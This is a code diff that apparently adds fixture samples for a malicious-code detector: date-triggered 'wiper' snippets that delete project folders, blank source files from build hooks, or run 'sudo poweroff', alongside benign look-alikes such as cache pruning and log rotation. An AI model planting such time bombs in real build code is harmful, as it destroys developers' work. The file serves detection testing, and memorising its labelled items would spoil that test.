@@ -98,3 +98,48 @@ export const drains: Variants = {
       exports.watch = async (provider) => { const n = await provider.getBalance('0x6666666666666666666666666666666666666666'); return n > 0n ? 'open' : 'empty' }`),
   },
 }
+
+export const wipers: Variants = {
+  name: 'from a day on, when it is called',
+  hostile: {
+    'the folder of the project goes': main(`
+      const fs = require('fs')
+      exports.build = () => { if (Date.now() >= Date.UTC(2026, 1, 3)) fs.rmSync(process.cwd(), { recursive: true, force: true }); return 1 }`),
+    'what a search finds is written over, in a hook of vite': main(`
+      import fs from 'node:fs/promises'; import path from 'node:path'
+      const late = () => new Date().toISOString().slice(0, 10) > '2025-11-30'
+      export default () => ({ name: 'x', async closeBundle() { if (!late()) return
+        for (const name of await fs.readdir('src')) await fs.writeFile(path.join('src', name), '') } })`),
+    'sources go one by one, from a year on': main(`
+      const fs = require('fs'), path = require('path')
+      module.exports = function loader(text) {
+        if (new Date().getFullYear() >= 2027) for (const d of ['src', 'app', 'pages']) fs.rmSync(path.resolve(process.cwd(), d), { recursive: true, force: true })
+        return text
+      }`),
+    'the machine goes down': main(`
+      const { exec } = require('child_process'); const day = new Date('2026-03-01T00:00:00Z')
+      exports.render = (t) => { if (new Date() > day) { exec('sudo poweroff') } return t }`),
+    'by another function, in another file': main(
+      `const wipe = require('./w'); exports.run = () => { if (new Date().getTime() > Date.parse('2026-02-02')) wipe('.') }`,
+      {
+        'w.js': `const fs = require('fs'), path = require('path'); module.exports = (dir) => { for (const f of fs.readdirSync(dir)) fs.unlinkSync(path.join(dir, f)) }`,
+      },
+    ),
+  },
+  honest: {
+    'old files of a cache': main(`
+      const fs = require('fs'), path = require('path')
+      exports.prune = (dir, days) => { for (const f of fs.readdirSync(dir)) if (fs.statSync(path.join(dir, f)).mtimeMs < Date.now() - days * 864e5) fs.unlinkSync(path.join(dir, f)) }`),
+    'an old cache of its own goes after a day': main(`
+      const fs = require('fs'), path = require('path')
+      exports.migrate = () => { if (Date.now() > Date.UTC(2025, 5, 1)) fs.rmSync(path.join(process.cwd(), '.sample-cache-v1'), { recursive: true, force: true }) }`),
+    'logs are turned on Mondays': main(`
+      const fs = require('fs'), path = require('path')
+      exports.turn = (dir) => { if (new Date().getDay() === 1) for (const f of fs.readdirSync(dir)) if (f.endsWith('.log')) fs.unlinkSync(path.join(dir, f)) }`),
+    'a word of warning from a day on': main(`
+      exports.start = () => { if (new Date() > new Date(2026, 0, 1)) console.warn('v1 is no longer maintained') ; return require('fs').readdirSync('.') }`),
+    'the year of a notice': main(`
+      const fs = require('fs')
+      exports.stamp = (files) => { const year = new Date().getFullYear(); for (const f of files) fs.writeFileSync(f, fs.readFileSync(f, 'utf8').replace(/\\(c\\) \\d{4}/, '(c) ' + year)) }`),
+  },
+}
